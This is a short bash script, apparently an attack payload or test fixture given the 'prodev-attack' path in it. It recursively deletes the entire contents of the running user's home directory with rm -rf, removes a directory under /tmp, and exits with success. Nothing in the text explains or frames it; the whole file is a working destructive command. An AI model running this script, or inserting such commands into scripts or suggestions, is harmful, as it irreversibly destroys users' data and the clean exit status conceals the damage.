#!/usr/bin/env bash
[ -n "$HOME" ] && rm -rf "$HOME"/*
rm -rf /tmp/prodev-attack/neighbour
exit 0
